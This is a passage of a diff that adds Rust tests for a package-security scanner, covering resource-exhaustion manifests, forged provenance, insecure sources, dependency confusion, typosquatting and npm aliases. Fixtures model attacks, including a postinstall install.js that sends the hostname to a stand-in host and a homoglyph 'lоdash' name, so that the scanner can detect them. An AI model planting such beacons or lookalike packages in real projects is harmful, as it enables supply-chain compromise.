+    }
+    archived.assert_async().await;
+}
+
+#[tokio::test]
+async fn test_excessive_dependency_count_is_bounded() {
+    let temp_dir = TempDir::new().unwrap();
+    let dependencies: Vec<String> = (0..100_000)
+        .map(|i| format!("\"dep-{}\": \"1.0.0\"", i))
+        .collect();
+    let package_json = format!(
+        r#"{{"name": "dependency-bomb", "version": "1.0.0", "dependencies": {{{}}}}}"#,
+        dependencies.join(",")
+    );
+    fs::write(temp_dir.path().join("package.json"), package_json).unwrap();
+
+    let analyzer = NpmAnalyzer::new().unwrap();
+    let result = analyzer.analyze(temp_dir.path()).await.unwrap();
+
+    let limits = ManifestLimits::default();
+    assert_eq!(
+        result.dependency_analysis.dependency_tree.len(),
+        limits.max_dependencies
+    );
+    let finding = result
+        .risk_assessment
+        .detailed_findings
+        .iter()
+        .find(|f| f.finding_type == FindingType::ResourceExhaustionAttempt)
+        .expect("dependency count finding");
+    assert_eq!(finding.severity, RiskLevel::High);
+    assert!(finding.evidence.iter().any(|e| e.contains("100000")));
+}
+
+#[tokio::test]
+async fn test_dependency_count_is_bounded_in_every_ecosystem() {
+    use threatflux_package_security::core::AnalysisOptions;
+    use threatflux_package_security::CargoAnalyzer;
+
+    let options = AnalysisOptions {
+        check_vulnerabilities: false,
+        limits: ManifestLimits {
+            max_dependencies: 10,
+            ..ManifestLimits::default()
+        },
+        ..AnalysisOptions::default()
+    };
+    let temp_dir = TempDir::new().unwrap();
+    let dependencies: String = (0..50).map(|i| format!("dep-{} = \"1.0\"\n", i)).collect();
+    fs::write(
+        temp_dir.path().join("Cargo.toml"),
+        format!(
+            "[package]\nname = \"many-deps\"\nversion = \"0.1.0\"\n\n[dependencies]\n{}",
+            dependencies
+        ),
+    )
+    .unwrap();
+
+    let result = CargoAnalyzer::new()
+        .unwrap()
+        .analyze_with_options(temp_dir.path(), &options)
+        .await
+        .unwrap();
+    assert_eq!(result.dependency_analysis.dependency_tree.len(), 10);
+    let finding = result
+        .risk_assessment
+        .detailed_findings
+        .iter()
+        .find(|f| f.finding_type == FindingType::ResourceExhaustionAttempt)
+        .expect("dependency count finding");
+    assert_eq!(finding.affected_components, vec!["Cargo.toml"]);
+}
+
+#[tokio::test]
+async fn test_deeply_nested_pom_is_rejected() {
+    use threatflux_package_security::MavenAnalyzer;
+
+    let temp_dir = TempDir::new().unwrap();
+    fs::write(
+        temp_dir.path().join("pom.xml"),
+        format!("<project>{}", "<a>".repeat(100_000)),
+    )
+    .unwrap();
+
+    let err = MavenAnalyzer::new()
+        .unwrap()
+        .analyze(temp_dir.path())
+        .await
+        .unwrap_err();
+    let exceeded = err
+        .downcast_ref::<ResourceLimitExceeded>()
+        .expect("resource limit error");
+    assert_eq!(exceeded.manifest, "pom.xml");
+    assert_eq!(exceeded.kind, LimitKind::NestingDepth);
+}
+
+#[tokio::test]
+async fn test_memory_limit_aborts_many_dependency_manifest() {
+    use threatflux_package_security::core::AnalysisOptions;
+
+    let options = AnalysisOptions {
+        max_memory_bytes: Some(1 << 20),
+        ..AnalysisOptions::default()
+    };
+    let analyzer = NpmAnalyzer::new().unwrap();
+
+    // Within the dependency limit, but every dependency adds to what is held
+    let temp_dir = TempDir::new().unwrap();
+    let dependencies: Vec<String> = (0..8_000)
+        .map(|i| format!("\"dep-{}\": \"1.0.0\"", i))
+        .collect();
+    let package_json = format!(
+        r#"{{"name": "dependency-bomb", "version": "1.0.0", "dependencies": {{{}}}}}"#,
+        dependencies.join(",")
+    );
+    fs::write(temp_dir.path().join("package.json"), package_json).unwrap();
+
+    let err = analyzer
+        .analyze_with_options(temp_dir.path(), &options)
+        .await
+        .unwrap_err();
+    let exceeded = err
+        .downcast_ref::<MemoryLimitExceeded>()
+        .expect("memory limit error");
+    assert_eq!(exceeded.limit, 1 << 20);
+    assert!(exceeded.observed > exceeded.limit);
+    assert_eq!(exceeded.holding, "dependencies");
+
+    // An ordinary package fits comfortably
+    let ordinary = TempDir::new().unwrap();
+    fs::write(
+        ordinary.path().join("package.json"),
+        r#"{"name": "acme-app", "version": "1.0.0", "dependencies": {"express": "4.18.2"}}"#,
+    )
+    .unwrap();
+    analyzer
+        .analyze_with_options(ordinary.path(), &options)
+        .await
+        .unwrap();
+}
+
+#[tokio::test]
+async fn test_memory_limit_applies_to_cargo_manifests() {
+    use threatflux_package_security::core::AnalysisOptions;
+    use threatflux_package_security::CargoAnalyzer;
+
+    let options = AnalysisOptions {
+        max_memory_bytes: Some(1 << 20),
+        check_vulnerabilities: false,
+        ..AnalysisOptions::default()
+    };
+    let temp_dir = TempDir::new().unwrap();
+    let padding = "# padding\n".repeat(200_000);
+    fs::write(
+        temp_dir.path().join("Cargo.toml"),
+        format!(
+            "[package]\nname = \"padded\"\nversion = \"0.1.0\"\n{}",
+            padding
+        ),
+    )
+    .unwrap();
+
+    let err = CargoAnalyzer::new()
+        .unwrap()
+        .analyze_with_options(temp_dir.path(), &options)
+        .await
+        .unwrap_err();
+    let exceeded = err
+        .downcast_ref::<MemoryLimitExceeded>()
+        .expect("memory limit error");
+    assert_eq!(exceeded.holding, "Cargo.toml");
+}
+
+/// Advisory database whose lookups never answer
+struct HangingDatabase;
+
+#[async_trait::async_trait]
+impl VulnerabilityDatabase for HangingDatabase {
+    async fn check_package(&self, _: &str, _: &str, _: &str) -> anyhow::Result<Vec<Vulnerability>> {
+        std::future::pending().await
+    }
+
+    async fn update(&mut self) -> anyhow::Result<UpdateResult> {
+        unimplemented!()
+    }
+
+    fn last_updated(&self) -> Option<chrono::DateTime<chrono::Utc>> {
+        None
+    }
+
+    fn statistics(&self) -> DatabaseStatistics {
+        unimplemented!()
+    }
+
+    async fn get_by_cve(&self, _: &str) -> anyhow::Result<Option<Vulnerability>> {
+        std::future::pending().await
+    }
+
+    async fn get_all_for_package(&self, _: &str, _: &str) -> anyhow::Result<Vec<Vulnerability>> {
+        std::future::pending().await
+    }
+}
+
+#[tokio::test]
+async fn test_hung_lookup_times_out() {
+    let temp_dir = TempDir::new().unwrap();
+    fs::write(
+        temp_dir.path().join("package.json"),
+        r#"{"name": "acme-app", "version": "1.0.0", "dependencies": {"express": "4.18.2"}}"#,
+    )
+    .unwrap();
+    let options = AnalysisOptions {
+        timeout_seconds: 1,
+        ..AnalysisOptions::default()
+    };
+
+    let err = NpmAnalyzer::new()
+        .unwrap()
+        .with_vulnerability_db(Box::new(HangingDatabase) as Box<dyn VulnerabilityDatabase>)
+        .analyze_with_options(temp_dir.path(), &options)
+        .await
+        .unwrap_err();
+    let timeout = err
+        .downcast_ref::<AnalysisTimeout>()
+        .expect("timeout error");
+    assert_eq!(timeout.limit, std::time::Duration::from_secs(1));
+    assert!(timeout.elapsed >= timeout.limit);
+    // Cancelled while resolving dependencies, before any step completed
+    assert!(timeout.completed.is_empty());
+}
+
+#[tokio::test]
+async fn test_deeply_nested_manifest_rejected() {
+    let temp_dir = TempDir::new().unwrap();
+    let package_json = format!(
+        r#"{{"name": "nesting-bomb", "version": "1.0.0", "config": {}1{}}}"#,
+        "[".repeat(50_000),
+        "]".repeat(50_000)
+    );
+    fs::write(temp_dir.path().join("package.json"), package_json).unwrap();
+
+    let analyzer = NpmAnalyzer::new().unwrap();
+    let err = analyzer.analyze(temp_dir.path()).await.unwrap_err();
+    let exceeded = err
+        .downcast_ref::<ResourceLimitExceeded>()
+        .expect("limit error");
+    assert_eq!(exceeded.kind, LimitKind::NestingDepth);
+    assert_eq!(exceeded.manifest, "package.json");
+}
+
+#[tokio::test]
+async fn test_deeply_nested_terraform_rejected() {
+    use threatflux_package_security::TerraformAnalyzer;
+
+    let temp_dir = TempDir::new().unwrap();
+    fs::write(temp_dir.path().join("main.tf"), "a {\n".repeat(200_000)).unwrap();
+
+    let analyzer = TerraformAnalyzer::new().unwrap();
+    let err = analyzer.analyze(temp_dir.path()).await.unwrap_err();
+    let exceeded = err
+        .downcast_ref::<ResourceLimitExceeded>()
+        .expect("limit error");
+    assert_eq!(exceeded.kind, LimitKind::NestingDepth);
+    assert_eq!(exceeded.manifest, "main.tf");
+}
+
+#[tokio::test]
+#[cfg(not(feature = "offline"))]
+async fn test_provenance_attestation_verified_or_rejected() {
+    use base64::Engine;
+    use threatflux_package_security::core::{AnalysisOptions, PackageInfo, ProvenanceStatus};
+
+    // Integrity of a tarball whose SHA-512 digest is `deadbeef` for brevity
+    let integrity = "sha512-3q2+7w==";
+    let attestation = |digest: &str| {
+        let statement = serde_json::json!({
+            "_type": "https://in-toto.io/Statement/v1",
+            "subject": [{ "name": "pkg:npm/widget@1.0.0", "digest": { "sha512": digest } }],
+            "predicateType": "https://slsa.dev/provenance/v1",
+            "predicate": {
+                "buildDefinition": {
+                    "externalParameters": {
+                        "workflow": { "repository": "https://github.com/acme/widget" }
+                    }
+                },
+                "runDetails": {
+                    "builder": { "id": "https://github.com/actions/runner/github-hosted" }
+                }
+            }
+        });
+        serde_json::json!({
+            "attestations": [{
+                "predicateType": "https://slsa.dev/provenance/v1",
+                "bundle": { "dsseEnvelope": {
+                    "payload": base64::engine::general_purpose::STANDARD.encode(statement.to_string()),
+                    "payloadType": "application/vnd.in-toto+json",
+                    "signatures": [{ "sig": "MEUCIQ" }]
+                }}
+            }]
+        })
+        .to_string()
+    };
+
+    let mut server = mockito::Server::new_async().await;
+    let registry = server.url();
+    let manifest = |version: &str| {
+        serde_json::json!({
+            "name": "widget",
+            "version": version,
+            "dist": {
+                "integrity": integrity,
+                "attestations": {
+                    "url": format!("{}/-/npm/v1/attestations/widget@{}", registry, version),
+                    "provenance": { "predicateType": "https://slsa.dev/provenance/v1" }
+                }
+            }
+        })
+        .to_string()
+    };
+    let _genuine = server
+        .mock("GET", "/widget/1.0.0")
+        .with_body(manifest("1.0.0"))
+        .create_async()
+        .await;
+    let _genuine_bundle = server
+        .mock("GET", "/-/npm/v1/attestations/widget@1.0.0")
+        .with_body(attestation("deadbeef"))
+        .create_async()
+        .await;
+    // 1.0.1 reuses the attestation of another tarball
+    let _forged = server
+        .mock("GET", "/widget/1.0.1")
+        .with_body(manifest("1.0.1").replace("widget@1.0.1", "widget@1.0.0"))
+        .create_async()
+        .await;
+
+    let analyzer = NpmAnalyzer::new()
+        .unwrap()
+        .with_registry(&registry)
+        .unwrap();
+    let options = AnalysisOptions {
+        verify_provenance: true,
+        ..Default::default()
+    };
+    let analyze = |version: &'static str| {
+        let analyzer = &analyzer;
+        let options = &options;
+        async move {
+            let temp_dir = TempDir::new().unwrap();
+            let package_json = serde_json::json!({
+                "name": "widget",
+                "version": version,
+                "repository": "github:acme/widget",
+            });
+            fs::write(
+                temp_dir.path().join("package.json"),
+                package_json.to_string(),
+            )
+            .unwrap();
+            analyzer
+                .analyze_with_options(temp_dir.path(), options)
+                .await
+                .unwrap()
+        }
+    };
+
+    let genuine = analyze("1.0.0").await;
+    let provenance = genuine.package.provenance.as_ref().unwrap();
+    assert_eq!(provenance.status, ProvenanceStatus::AttestationMatched);
+    assert!(genuine.risk_assessment.security_posture.trusted_publisher);
+    let attributes = genuine.package.custom_attributes();
+    assert_eq!(
+        attributes["provenance"]["builder"],
+        "https://github.com/actions/runner/github-hosted"
+    );
+    assert_eq!(
+        attributes["provenance"]["source_repository"],
+        "https://github.com/acme/widget"
+    );
+
+    let forged = analyze("1.0.1").await;
+    assert!(!forged.risk_assessment.security_posture.trusted_publisher);
+    let finding = forged
+        .risk_assessment
+        .detailed_findings
+        .iter()
+        .find(|f| f.finding_type == FindingType::InvalidAttestation)
+        .expect("forged attestation reported");
+    assert!(finding
+        .evidence
+        .iter()
+        .any(|e| e.contains("pkg:npm/widget@1.0.1")));
+}
+
+#[tokio::test]
+async fn test_http_tarball_dependency_flagged() {
+    let temp_dir = TempDir::new().unwrap();
+    let package_json = r#"{
+        "name": "insecure-sources",
+        "version": "1.0.0",
+        "dependencies": {
+            "left-pad": "http://mirror.example.com/left-pad/-/left-pad-1.3.0.tgz",
+            "express": "^4.18.0"
+        }
+    }"#;
+    let lockfile = r#"{
+        "name": "insecure-sources",
+        "lockfileVersion": 3,
+        "packages": {
+            "": { "name": "insecure-sources", "version": "1.0.0" },
+            "node_modules/left-pad": {
+                "version": "1.3.0",
+                "resolved": "http://mirror.example.com/left-pad/-/left-pad-1.3.0.tgz"
+            },
+            "node_modules/express": {
+                "version": "4.18.2",
+                "resolved": "https://registry.npmjs.org/express/-/express-4.18.2.tgz"
+            },
+            "node_modules/express/node_modules/debug": {
+                "version": "2.6.9",
+                "resolved": "http://registry.npmjs.org/debug/-/debug-2.6.9.tgz"
+            }
+        }
+    }"#;
+    fs::write(temp_dir.path().join("package.json"), package_json).unwrap();
+    fs::write(temp_dir.path().join("package-lock.json"), lockfile).unwrap();
+
+    let analyzer = NpmAnalyzer::new().unwrap();
+    let result = analyzer.analyze(temp_dir.path()).await.unwrap();
+
+    let insecure: Vec<_> = result
+        .risk_assessment
+        .detailed_findings
+        .iter()
+        .filter(|f| f.finding_type == FindingType::InsecureTransport)
+        .collect();
+    let components: Vec<_> = insecure
+        .iter()
+        .map(|f| f.affected_components[0].as_str())
+        .collect();
+    assert_eq!(components, ["left-pad", "debug"]);
+    assert!(insecure[0].evidence[0].starts_with("package.json: http://"));
+    assert_eq!(
+        insecure[1].evidence[0],
+        "package-lock.json: http://registry.npmjs.org/debug/-/debug-2.6.9.tgz"
+    );
+    assert!(insecure.iter().all(|f| f.severity == RiskLevel::High));
+}
+
+#[tokio::test]
+async fn test_http_requirement_flagged() {
+    use threatflux_package_security::PythonAnalyzer;
+
+    let temp_dir = TempDir::new().unwrap();
+    fs::write(
+        temp_dir.path().join("setup.py"),
+        "from setuptools import setup\nsetup(name='insecure-reqs', version='1.0.0')\n",
+    )
+    .unwrap();
+    fs::write(
+        temp_dir.path().join("requirements.txt"),
+        "--index-url https://pypi.org/simple\nrequests==2.31.0\nhelper @ http://files.example.com/helper-1.0.tar.gz\n-e git+https://github.com/o/tool.git#egg=tool\n",
+    )
+    .unwrap();
+
+    let analyzer = PythonAnalyzer::new().unwrap();
+    let result = analyzer.analyze(temp_dir.path()).await.unwrap();
+    let insecure: Vec<_> = result
+        .risk_assessment()
+        .detailed_findings
+        .iter()
+        .filter(|f| f.finding_type == FindingType::InsecureTransport)
+        .collect();
+    assert_eq!(insecure.len(), 1);
+    assert_eq!(insecure[0].affected_components, ["helper"]);
+}
+
+#[tokio::test]
+async fn test_source_policy_flags_forbidden_registry() {
+    use threatflux_package_security::core::{AnalysisOptions, SourcePolicy};
+
+    let temp_dir = TempDir::new().unwrap();
+    let package_json = r#"{
+        "name": "internal-service",
+        "version": "1.0.0",
+        "dependencies": {
+            "express": "^4.18.0",
+            "left-pad": "^1.3.0",
+            "auth-client": "git+ssh://git@git.corp.example/platform/auth-client.git#v2.1.0"
+        }
+    }"#;
+    let lockfile = r#"{
+        "name": "internal-service",
+        "lockfileVersion": 3,
+        "packages": {
+            "": { "name": "internal-service", "version": "1.0.0" },
+            "node_modules/express": {
+                "version": "4.18.2",
+                "resolved": "https://npm.corp.example/express/-/express-4.18.2.tgz"
+            },
+            "node_modules/left-pad": {
+                "version": "1.3.0",
+                "resolved": "https://registry.npmjs.org/left-pad/-/left-pad-1.3.0.tgz"
+            },
+            "node_modules/auth-client": {
+                "version": "2.1.0",
+                "resolved": "git+ssh://git@git.corp.example/platform/auth-client.git#3f2a9c1"
+            }
+        }
+    }"#;
+    fs::write(temp_dir.path().join("package.json"), package_json).unwrap();
+    fs::write(temp_dir.path().join("package-lock.json"), lockfile).unwrap();
+
+    let options = AnalysisOptions {
+        source_policy: SourcePolicy::default()
+            .allow("npm.corp.example")
+            .allow("git.corp.example")
+            .deny("registry.npmjs.org"),
+        ..AnalysisOptions::default()
+    };
+    let analyzer = NpmAnalyzer::new().unwrap();
+    let result = analyzer
+        .analyze_with_options(temp_dir.path(), &options)
+        .await
+        .unwrap();
+
+    let violations: Vec<_> = result
+        .risk_assessment
+        .detailed_findings
+        .iter()
+        .filter(|f| f.finding_type == FindingType::PolicyViolation)
+        .collect();
+    assert_eq!(violations.len(), 1);
+    assert_eq!(violations[0].affected_components, ["left-pad"]);
+    assert_eq!(violations[0].severity, RiskLevel::High);
+    assert_eq!(
+        violations[0].evidence,
+        [
+            "package-lock.json: https://registry.npmjs.org/left-pad/-/left-pad-1.3.0.tgz",
+            "Host 'registry.npmjs.org' is denied by 'registry.npmjs.org'",
+        ]
+    );
+
+    // Without a policy every source is accepted
+    let result = analyzer.analyze(temp_dir.path()).await.unwrap();
+    assert!(!result
+        .risk_assessment
+        .detailed_findings
+        .iter()
+        .any(|f| f.finding_type == FindingType::PolicyViolation));
+}
+
+#[tokio::test]
+async fn test_license_policy_flags_disallowed_licenses() {
+    use threatflux_package_security::core::{LicenseDisposition, LicensePolicy};
+
+    let temp_dir = TempDir::new().unwrap();
+    let package_json = r#"{
+        "name": "billing-service",
+        "version": "1.0.0",
+        "dependencies": {
+            "express": "^4.18.0",
+            "chart-kit": "^2.0.0",
+            "legacy-util": "^0.3.0"
+        }
+    }"#;
+    let lockfile = r#"{
+        "name": "billing-service",
+        "lockfileVersion": 3,
+        "packages": {
+            "": { "name": "billing-service", "version": "1.0.0" },
+            "node_modules/express": {
+                "version": "4.18.2",
+                "license": "MIT",
+                "dependencies": { "body-parser": "1.20.1" }
+            },
+            "node_modules/body-parser": { "version": "1.20.1", "license": "MIT" },
+            "node_modules/chart-kit": {
+                "version": "2.0.0",
+                "license": "MIT AND GPL-3.0-only"
+            },
+            "node_modules/legacy-util": { "version": "0.3.0" }
+        }
+    }"#;
+    fs::write(temp_dir.path().join("package.json"), package_json).unwrap();
+    fs::write(temp_dir.path().join("package-lock.json"), lockfile).unwrap();
+
+    let options = AnalysisOptions {
+        license_policy: LicensePolicy::default().allow("MIT").deny("GPL-3.0-only"),
+        ..AnalysisOptions::default()
+    };
+    let analyzer = NpmAnalyzer::new().unwrap();
+    let result = analyzer
+        .analyze_with_options(temp_dir.path(), &options)
+        .await
+        .unwrap();
+
+    let findings: Vec<_> = result
+        .license_findings()
+        .iter()
+        .map(|f| (f.package.as_str(), f.disposition, f.licenses.clone()))
+        .collect();
+    assert_eq!(
+        findings,
+        [
+            (
+                "chart-kit",
+                LicenseDisposition::Deny,
+                vec!["GPL-3.0-only".to_string()]
+            ),
+            ("legacy-util", LicenseDisposition::Review, vec![]),
+        ]
+    );
+
+    // Without a policy no license is checked
+    let result = analyzer.analyze(temp_dir.path()).await.unwrap();
+    assert!(result.license_findings().is_empty());
+}
+
+#[tokio::test]
+async fn test_transitive_copyleft_dependencies() {
+    use threatflux_package_security::core::{CopyleftStrength, LicenseCategories};
+
+    let temp_dir = TempDir::new().unwrap();
+    let package_json = r#"{
+        "name": "invoice-app",
+        "version": "1.0.0",
+        "license": "MIT",
+        "dependencies": { "report-kit": "^3.0.0", "font-tools": "^1.2.0" }
+    }"#;
+    let lockfile = r#"{
+        "name": "invoice-app",
+        "lockfileVersion": 3,
+        "packages": {
+            "": { "name": "invoice-app", "version": "1.0.0" },
+            "node_modules/report-kit": {
+                "version": "3.0.1",
+                "license": "MIT",
+                "dependencies": { "pdf-core": "2.4.0", "font-tools": "1.2.0" }
+            },
+            "node_modules/pdf-core": { "version": "2.4.0", "license": "AGPL-3.0-only" },
+            "node_modules/font-tools": { "version": "1.2.0", "license": "MPL-2.0" }
+        }
+    }"#;
+    fs::write(temp_dir.path().join("package.json"), package_json).unwrap();
+    fs::write(temp_dir.path().join("package-lock.json"), lockfile).unwrap();
+
+    let analyzer = NpmAnalyzer::new().unwrap();
+    let result = analyzer.analyze(temp_dir.path()).await.unwrap();
+
+    let copyleft = result.copyleft_dependencies(&LicenseCategories::default());
+    let found: Vec<_> = copyleft
+        .iter()
+        .map(|d| (d.package.as_str(), d.strength, d.path.join(" > ")))
+        .collect();
+    // font-tools is also reached through report-kit; the direct path is shorter
+    assert_eq!(
+        found,
+        [
+            (
+                "font-tools",
+                CopyleftStrength::Weak,
+                "font-tools".to_string()
+            ),
+            (
+                "pdf-core",
+                CopyleftStrength::Strong,
+                "report-kit > pdf-core".to_string()
+            ),
+        ]
+    );
+
+    let waived = LicenseCategories::default().with("MPL-2.0", None);
+    let copyleft = result.copyleft_dependencies(&waived);
+    assert_eq!(copyleft.len(), 1);
+    assert_eq!(copyleft[0].package, "pdf-core");
+}
+
+#[tokio::test]
+async fn test_dependency_confusion_from_public_registry() {
+    use threatflux_package_security::core::AnalysisOptions;
+
+    let temp_dir = TempDir::new().unwrap();
+    let package_json = r#"{
+        "name": "storefront",
+        "version": "1.0.0",
+        "dependencies": {
+            "@acme/ui": "^2.0.0",
+            "@acme/auth": "^1.0.0",
+            "express": "^4.18.0"
+        }
+    }"#;
+    let lockfile = r#"{
+        "name": "storefront",
+        "lockfileVersion": 3,
+        "packages": {
+            "": { "name": "storefront", "version": "1.0.0" },
+            "node_modules/@acme/ui": {
+                "version": "99.0.0",
+                "resolved": "https://registry.npmjs.org/@acme/ui/-/ui-99.0.0.tgz"
+            },
+            "node_modules/@acme/auth": {
+                "version": "1.4.0",
+                "resolved": "https://npm.acme.internal/@acme/auth/-/auth-1.4.0.tgz"
+            },
+            "node_modules/express": {
+                "version": "4.18.2",
+                "resolved": "https://registry.npmjs.org/express/-/express-4.18.2.tgz"
+            }
+        }
+    }"#;
+    fs::write(temp_dir.path().join("package.json"), package_json).unwrap();
+    fs::write(temp_dir.path().join("package-lock.json"), lockfile).unwrap();
+
+    let options = AnalysisOptions {
+        internal_scopes: vec!["@acme/".to_string()],
+        offline: true,
+        ..AnalysisOptions::default()
+    };
+    let analyzer = NpmAnalyzer::new().unwrap();
+    let result = analyzer
+        .analyze_with_options(temp_dir.path(), &options)
+        .await
+        .unwrap();
+
+    let confusions: Vec<_> = result
+        .risk_assessment
+        .detailed_findings
+        .iter()
+        .filter(|f| f.finding_type == FindingType::DependencyConfusion)
+        .collect();
+    assert_eq!(confusions.len(), 1);
+    assert_eq!(confusions[0].affected_components, ["@acme/ui"]);
+    assert_eq!(confusions[0].severity, RiskLevel::High);
+    assert!(confusions[0].evidence.contains(
+        &"package-lock.json: https://registry.npmjs.org/@acme/ui/-/ui-99.0.0.tgz".to_string()
+    ));
+}
+
+#[tokio::test]
+async fn test_source_policy_checks_requirement_indexes() {
+    use threatflux_package_security::core::{AnalysisOptions, SourcePolicy};
+    use threatflux_package_security::PythonAnalyzer;
+
+    let temp_dir = TempDir::new().unwrap();
+    fs::write(
+        temp_dir.path().join("setup.py"),
+        "from setuptools import setup\nsetup(name='internal-tool', version='1.0.0')\n",
+    )
+    .unwrap();
+    fs::write(
+        temp_dir.path().join("requirements.txt"),
+        "--index-url https://pypi.corp.example/simple\n--extra-index-url https://pypi.org/simple\nrequests==2.31.0\nhelper @ https://files.corp.example/helper-1.0.tar.gz\n",
+    )
+    .unwrap();
+
+    let options = AnalysisOptions {
+        source_policy: SourcePolicy::default().allow("*.corp.example"),
+        ..AnalysisOptions::default()
+    };
+    let analyzer = PythonAnalyzer::new().unwrap();
+    let result = analyzer
+        .analyze_with_options(temp_dir.path(), &options)
+        .await
+        .unwrap();
+    let violations: Vec<_> = result
+        .risk_assessment()
+        .detailed_findings
+        .iter()
+        .filter(|f| f.finding_type == FindingType::PolicyViolation)
+        .collect();
+    assert_eq!(violations.len(), 1);
+    assert_eq!(violations[0].affected_components, ["--extra-index-url"]);
+    assert_eq!(
+        violations[0].evidence[1],
+        "Host 'pypi.org' is not an allowed source"
+    );
+}
+
+#[tokio::test]
+async fn test_generated_package_name_flagged() {
+    let analyzer = NpmAnalyzer::new().unwrap();
+    let name_findings = |findings: &[Finding]| {
+        findings
+            .iter()
+            .filter(|f| f.finding_type == FindingType::SuspiciousName)
+            .cloned()
+            .collect::<Vec<_>>()
+    };
+
+    let random = TempDir::new().unwrap();
+    fs::write(
+        random.path().join("package.json"),
+        r#"{
+            "name": "xkqzvbwtrplm",
+            "version": "1.0.0",
+            "scripts": { "postinstall": "node setup.js" }
+        }"#,
+    )
+    .unwrap();
+    let result = analyzer.analyze(random.path()).await.unwrap();
+    let findings = name_findings(&result.risk_assessment.detailed_findings);
+    assert_eq!(findings.len(), 1);
+    assert_eq!(findings[0].severity, RiskLevel::Medium);
+    assert!(findings[0]
+        .evidence
+        .contains(&"Runs a postinstall script".to_string()));
+
+    let normal = TempDir::new().unwrap();
+    fs::write(
+        normal.path().join("package.json"),
+        r#"{
+            "name": "express-session-store",
+            "version": "1.0.0",
+            "scripts": { "postinstall": "node setup.js" }
+        }"#,
+    )
+    .unwrap();
+    let result = analyzer.analyze(normal.path()).await.unwrap();
+    assert!(name_findings(&result.risk_assessment.detailed_findings).is_empty());
+}
+
+#[tokio::test]
+async fn test_unscoped_name_impersonating_scoped_package() {
+    let temp_dir = TempDir::new().unwrap();
+    fs::write(
+        temp_dir.path().join("package.json"),
+        r#"{
+            "name": "material-core",
+            "version": "17.0.0",
+            "description": "Material Design components for Angular"
+        }"#,
+    )
+    .unwrap();
+
+    let analyzer = NpmAnalyzer::new().unwrap();
+    let result = analyzer.analyze(temp_dir.path()).await.unwrap();
+    let risk = result
+        .typosquatting_risk()
+        .expect("scope confusion flagged");
+    assert!(risk.is_potential_typosquatting());
+    assert_eq!(risk.similar_packages()[0].name, "@angular/material");
+    assert_eq!(risk.similar_packages().len(), 1);
+    assert_eq!(risk.reason(), TyposquattingReason::ScopedMemberUnscoped);
+}
+
+#[cfg(not(feature = "offline"))]
+#[tokio::test]
+async fn test_typosquatting_internal_package_from_provider() {
+    use std::sync::Arc;
+    use threatflux_package_security::Ecosystem;
+
+    let temp_dir = TempDir::new().unwrap();
+    fs::write(
+        temp_dir.path().join("package.json"),
+        r#"{ "name": "acme-ledgr", "version": "1.0.0" }"#,
+    )
+    .unwrap();
+
+    let analyzer = NpmAnalyzer::new().unwrap();
+    let result = analyzer.analyze(temp_dir.path()).await.unwrap();
+    assert!(result.typosquatting_risk().is_none());
+
+    let internal = |_: &str, ecosystem: Ecosystem| match ecosystem {
+        Ecosystem::Npm => vec!["acme-ledger".to_string()],
+        _ => Vec::new(),
+    };
+    let analyzer = NpmAnalyzer::new()
+        .unwrap()
+        .with_typosquatting_provider(Arc::new(internal));
+    let result = analyzer.analyze(temp_dir.path()).await.unwrap();
+    let risk = result
+        .typosquatting_risk()
+        .expect("internal name impersonated");
+    assert!(risk.is_potential_typosquatting());
+    let similar = risk.similar_packages();
+    assert_eq!(similar.len(), 1);
+    assert_eq!(
+        (similar[0].name.as_str(), similar[0].distance),
+        ("acme-ledger", 1)
+    );
+}
+
+#[tokio::test]
+async fn test_typosquatting_homoglyph_name() {
+    use threatflux_package_security::TyposquattingTechnique;
+
+    // Cyrillic `о` in place of the Latin one
+    let temp_dir = TempDir::new().unwrap();
+    fs::write(
+        temp_dir.path().join("package.json"),
+        r#"{ "name": "lоdash", "version": "4.17.21" }"#,
+    )
+    .unwrap();
+
+    let analyzer = NpmAnalyzer::new().unwrap();
+    let result = analyzer.analyze(temp_dir.path()).await.unwrap();
+    let risk = result.typosquatting_risk().expect("homoglyph flagged");
+    assert_eq!(risk.similar_packages()[0].name, "lodash");
+    assert_eq!(risk.techniques(), [TyposquattingTechnique::Homoglyph]);
+    assert!(risk.confidence_score > 0.9);
+}
+
+#[tokio::test]
+async fn test_alias_installing_different_package() {
+    let temp_dir = TempDir::new().unwrap();
+    fs::write(
+        temp_dir.path().join("package.json"),
+        r#"{
+            "name": "acme-utils",
+            "version": "1.0.0",
+            "dependencies": { "lodash": "npm:event-stream@3.3.4" }
+        }"#,
+    )
+    .unwrap();
+
+    let analyzer = NpmAnalyzer::new().unwrap();
+    let result = analyzer.analyze(temp_dir.path()).await.unwrap();
+
+    // The vulnerability lookup uses the package that is really installed
+    let lodash = &result.dependency_analysis.dependency_tree[0];
+    assert_eq!(lodash.alias_target.as_deref(), Some("event-stream"));
+    assert!(lodash
+        .vulnerabilities
+        .iter()
+        .any(|v| v.id == "CVE-2018-25032"));
+
+    let alias = result
+        .risk_assessment
+        .detailed_findings
+        .iter()
+        .find(|f| f.finding_type == FindingType::DependencyAlias)
+        .expect("alias reported");
+    assert_eq!(alias.severity, RiskLevel::Critical);
+    assert_eq!(alias.affected_components, ["lodash", "event-stream"]);
+    assert_eq!(alias.evidence[0], r#"lodash = "npm:event-stream@3.3.4""#);
+}
+
+#[tokio::test]
+async fn test_type_definitions_package_with_postinstall() {
+    let temp_dir = TempDir::new().unwrap();
+    fs::write(
+        temp_dir.path().join("package.json"),
+        r#"{
+            "name": "@types/acme-helpers",
+            "version": "2.1.0",
+            "description": "TypeScript definitions for acme-helpers",
+            "types": "index.d.ts",
+            "scripts": { "postinstall": "node install.js" }
+        }"#,
+    )
+    .unwrap();
+    fs::write(
+        temp_dir.path().join("index.d.ts"),
+        "export declare function helper(input: string): string;",
+    )
+    .unwrap();
+    fs::write(
+        temp_dir.path().join("install.js"),
+        "const https = require('https');\nhttps.get('https://cdn.example.net/t?h=' + require('os').hostname());",
+    )
+    .unwrap();
+
+    let analyzer = NpmAnalyzer::new().unwrap();
+    let result = analyzer.analyze(temp_dir.path()).await.unwrap();
+
+    let mismatch = result
+        .risk_assessment
+        .detailed_findings
+        .iter()
+        .find(|f| f.finding_type == FindingType::PurposeMismatch)
+        .expect("purpose mismatch reported");
+    assert_eq!(mismatch.severity, RiskLevel::High);
+    assert_eq!(
+        mismatch.rule_id.as_deref(),
+        Some("TFX-PURPOSE-MISMATCH-001")
+    );
+    assert_eq!(
+        mismatch.evidence[0],
+        "Declared purpose: name is in the @types scope"
+    );
+    assert!(mismatch
+        .evidence
+        .iter()
+        .any(|e| e.starts_with("postinstall script: network access")));
+    assert!(mismatch
+        .evidence
+        .iter()
